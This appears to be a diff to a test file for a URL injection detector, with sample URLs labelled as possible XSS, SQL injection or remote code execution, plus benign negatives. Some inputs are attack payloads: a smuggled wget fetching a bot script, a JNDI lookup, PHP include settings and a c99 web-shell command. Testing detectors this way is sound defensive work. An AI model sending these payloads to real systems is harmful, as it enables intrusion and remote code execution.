@@ -49,6 +49,16 @@ describe("URL parameters", () => {
     ["/p?a=%2570%2568%2570%2569%256e%2566%256f()", "url_possible_rce_injection"],
     ["/p?a=;wget+http://203.0.113.9/bot.sh", "url_possible_rce_injection"],
     ["/p?q=${jndi:ldap://x}", "url_possible_rce_injection"],
+    // Nothing but letters, digits and separators.
+    ["/p?q=document.cookie", "url_possible_xss"],
+    ["/p?q=information_schema.tables", "url_possible_sql_injection"],
+    ["/p?q=sysobjects", "url_possible_sql_injection"],
+    ["/p?q=pg_catalog.x", "url_possible_sql_injection"],
+    ["/p?q=sqlite_master", "url_possible_sql_injection"],
+    ["/p?allow_url_include=1", "url_possible_rce_injection"],
+    ["/p?auto_prepend_file=x", "url_possible_rce_injection"],
+    ["/p?q=java.lang.Runtime", "url_possible_rce_injection"],
+    ["/c99.php?cmd=id", "url_possible_rce_injection"],
   ])("%s is %s", (url, want) => expect(injectionIn(url)?.risk).toBe(want))
   test.each([
     "/", "/search?q=union+street+hotel+selection", "/search?q=how+to+select+from+a+menu", "/?name=O'Neil", "/?q=rock+and+roll", "/?t=1%20or%202", "/?u=https://example.com/a?b=c",
